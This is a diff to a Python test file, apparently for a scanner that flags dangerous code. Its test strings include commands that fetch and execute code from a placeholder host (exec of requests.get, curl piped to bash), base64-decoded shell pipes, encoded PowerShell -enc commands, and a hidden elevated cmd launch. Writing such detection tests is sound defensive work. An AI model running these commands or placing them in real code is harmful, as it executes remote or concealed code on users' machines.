@@ -13,6 +13,12 @@ from tests.behaviour import at, findings, worst
 HEAD = "import os, subprocess, requests, base64, sys, tempfile, urllib.request\n"
 URL = "https://example.invalid/a"
 
+
+def _utf16(text: str) -> str:
+    """Return a command as PowerShell takes encoded ones."""
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
 RUN_AS_IT_COMES = [
     f"exec(requests.get('{URL}').text)",
     f"eval(compile(urllib.request.urlopen('{URL}').read(), 'a', 'exec'))",
@@ -71,6 +77,7 @@ HIDDEN_POWERSHELL = [
     "os.system('echo bHMK | base64 -d | bash')",
     "subprocess.run(['sh', '-c', 'echo bHMK | base64 --decode | /bin/sh'])",
     "subprocess.run(['powershell', '-enc', '" + "QQBCAEMARABFAEYARwBIAEkA" * 2 + "'])",
+    f"subprocess.run(['powershell', '-enc', '{_utf16('Get-Command a; iex b')}'])",
 ]
 RUN_BY_OTHERS = [
     f"os.system('curl -s {URL} | bash')",
@@ -151,6 +158,8 @@ def test_packages_and_downloads_by_other_programs(source: str, when_imported: st
         f"import json\njson.loads(requests.get('{URL}').text)",
         "os.system('base64 -d a.txt > a.bin')",
         "subprocess.run(['powershell', '-Command', 'Get-Item .'])",
+        f"subprocess.run(['powershell', '-enc', '{_utf16('(Get-Command demo).Path')}'])",
+        "subprocess.run(['powershell', '-Command', 'Start-Process cmd -WindowStyle Hidden -Verb RunAs'])",
         "subprocess.run('curl --version | head -1', shell=True)",
         "exec(subprocess.check_output(['demo-config', '--python']))",
         "text = subprocess.check_output(['curl', '--version'])\nexec('x = 1')",
